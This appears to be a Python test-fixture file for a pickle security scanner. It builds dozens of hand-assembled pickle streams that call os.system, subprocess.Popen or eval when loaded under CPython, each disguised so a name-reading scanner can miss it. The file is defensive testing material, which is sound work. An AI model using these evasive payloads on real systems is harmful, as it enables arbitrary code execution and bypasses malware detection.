"""How a call of os.system can be written in opcodes: forms that CPython takes and that a reader of names may not."""

from __future__ import annotations

import struct
from collections.abc import Mapping
from types import MappingProxyType

from payloads import ARGV, PLAIN, SHELL, SYSTEM, deep

from samples.assemble import (
    MARK,
    ORDERED_DICT,
    POP,
    PROTO2,
    PROTO4,
    STACK_GLOBAL,
    STOP,
    Code,
    build,
    call,
    get,
    inst,
    name,
    new,
    new_ex,
    obj,
    pickle,
    put,
    short,
    stack_name,
    value,
)

POPEN = name("subprocess", "Popen")
ARGS = value((SHELL,)) + b"R"


def framed(body: bytes, length: int | None = None) -> bytes:
    """A stream of protocol 4 in one frame."""
    return PROTO4 + b"\x95" + struct.pack("<Q", len(body) + 1 if length is None else length) + body + STOP


def text(module: bytes, attribute: bytes, opcode: bytes = b"V") -> bytes:
    """A name whose halves are text opcodes: V is UNICODE, S is STRING."""
    return opcode + module + b"\n" + opcode + attribute + b"\n" + STACK_GLOBAL


def counted(opcode: bytes, layout: str, *words: bytes) -> bytes:
    """Values of an opcode that gives their length first."""
    return b"".join(opcode + struct.pack(layout, len(word)) + word for word in words)


SPELLINGS: Mapping[str, bytes] = MappingProxyType(
    {
        "GLOBAL, no protocol": PLAIN + STOP,
        "GLOBAL, text": b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.",
        "GLOBAL, protocol 5": b"\x80\x05" + PLAIN + STOP,
        "STACK_GLOBAL": pickle(call(stack_name("os", "system"), SHELL), PROTO4),
        "STACK_GLOBAL in protocol 2": pickle(call(stack_name("os", "system"), SHELL)),
        "STACK_GLOBAL framed": framed(call(Code(short("os") + short("system") + STACK_GLOBAL), SHELL)),
        "STACK_GLOBAL, UNICODE escapes": PROTO4 + text(rb"\u006f\u0073", rb"syst\u0065m") + ARGS + STOP,
        "STACK_GLOBAL, STRING escapes": PROTO4 + text(rb"'\x6fs'", rb"'syst\x65m'", b"S") + ARGS + STOP,
        "STACK_GLOBAL, BINSTRING": PROTO4 + counted(b"T", "<i", b"os", b"system") + STACK_GLOBAL + ARGS + STOP,
        "STACK_GLOBAL, SHORT_BINSTRING": PROTO4 + counted(b"U", "<B", b"os", b"system") + STACK_GLOBAL + ARGS + STOP,
        "STACK_GLOBAL, BINUNICODE8": PROTO4 + counted(b"\x8d", "<Q", b"os", b"system") + STACK_GLOBAL + ARGS + STOP,
        "names from the memo": pickle(
            Code(put("system", 1) + POP + put("os", 0) + get(1) + STACK_GLOBAL + ARGS), PROTO4
        ),
        "names from a memo written twice": pickle(
            Code(put("json", 0) + POP + put("os", 0) + POP + get(0) + value("system") + STACK_GLOBAL + ARGS), PROTO4
        ),
        "names by MEMOIZE and BINGET": PROTO4
        + short("os") + b"\x94" + POP + short("system") + b"\x94" + POP + b"h\0h\1" + STACK_GLOBAL + ARGS + STOP,
        "names by text PUT and GET": PROTO4
        + b"Vos\np5\n0Vsystem\np007\n0g5\ng7\n" + STACK_GLOBAL + ARGS + STOP,
        "name computed by str.join": pickle(
            call(stack_name(deep("builtins", "str.join", "", ["o", "s"]), "system"), SHELL), PROTO4
        ),
        "name computed by operator": pickle(
            call(stack_name("os", call(name("operator", "add"), "sys", "tem")), SHELL), PROTO4
        ),
        "name cut from a longer one": pickle(
            call(stack_name("os", deep("builtins", "str.lower", "SYSTEM")), SHELL), PROTO4
        ),
        "function from the memo": pickle(Code(put(SYSTEM, 9) + POP + get(9) + ARGS)),
        "memo index of 2 GiB": pickle(Code(put(SYSTEM, 100_000) + POP + get(100_000) + ARGS)),
        "arguments from the memo": pickle(Code(put((SHELL,), 3) + POP + SYSTEM + get(3) + b"R")),
        "INST": pickle(inst("os", "system", SHELL)),
        "INST, no protocol": inst("subprocess", "Popen", ARGV) + STOP,
        "OBJ": pickle(obj(POPEN, ARGV)),
        "NEWOBJ and a state": pickle(new(name("builtins", "tuple"), call(name("builtins", "map"), SYSTEM, [SHELL]))),
        "NEWOBJ_EX": pickle(new_ex(name("builtins", "tuple"), (call(name("builtins", "map"), SYSTEM, [SHELL]),), {}),
                            PROTO4),
        "DUP": PROTO2 + SYSTEM + b"2" + ARGS + STOP,
        "POP_MARK": PROTO2 + MARK + PLAIN + b"1" + value(1) + STOP,
        "PROTO between": PROTO2 + SYSTEM + PROTO2 + ARGS + STOP,
        "PROTO late": SYSTEM + PROTO4 + ARGS + STOP,
        "number of leading zeros": PROTO2 + b"I007\n0" + PLAIN + STOP,
        "long text number": PROTO2 + b"L12L\n0" + PLAIN + STOP,
        "result called with a state": pickle(build(ORDERED_DICT, {"a": PLAIN})),
        "python 2 module": pickle(call(name("commands", "getoutput"), SHELL), b""),
        "python 2 name": pickle(call(name("__builtin__", "eval"), "open('board-ran', 'w')"), b""),
        "a dict of the call": b"(dVk\n" + PLAIN + b"s.",
        "a list of the call": b"(l" + PLAIN + b"a.",
        "broken afterwards": PROTO2 + PLAIN + POP + b"\xff\xff\xff",
        "cut off afterwards": PROTO2 + PLAIN + POP + b"X\xff\0\0\0abc",
        "empty stack afterwards": PROTO2 + PLAIN + POP + STOP,
        "a million afterwards": PROTO2 + PLAIN + POP + b"]" + b"K\1a" * 20_000 + STOP,
        "a thousand before": PROTO2 + b"]" + b"K\1a" * 20_000 + POP + PLAIN + STOP,
        "STOP in text before": PROTO2 + value("." * 400) + POP + PLAIN + STOP,
        "deep in tuples": PROTO2 + PLAIN + b"\x85" * 90 + STOP,
    }
)  # fmt: skip
"""Form -> a whole stream that runs the payload under CPython."""
